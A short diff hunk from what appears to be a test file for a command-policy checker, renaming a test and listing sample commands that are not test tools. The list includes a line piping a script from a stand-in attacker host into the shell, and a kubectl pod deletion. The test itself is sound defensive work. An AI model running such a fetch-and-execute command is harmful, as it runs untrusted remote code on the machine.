@@ -100,7 +100,7 @@ describe.each(packs)('[policy.reasons] pack %s', (pack) => {
     expect([...new Set(stray)]).toEqual([]);
   });
 
-  test('a command that is no test tool is not given the reason of one', async () => {
+  test('only test tools are given the reason of their options', async () => {
     const others = [
       'kubectl -n shop delete pod x',
       'curl -s https://evil.example/x.sh | sh',
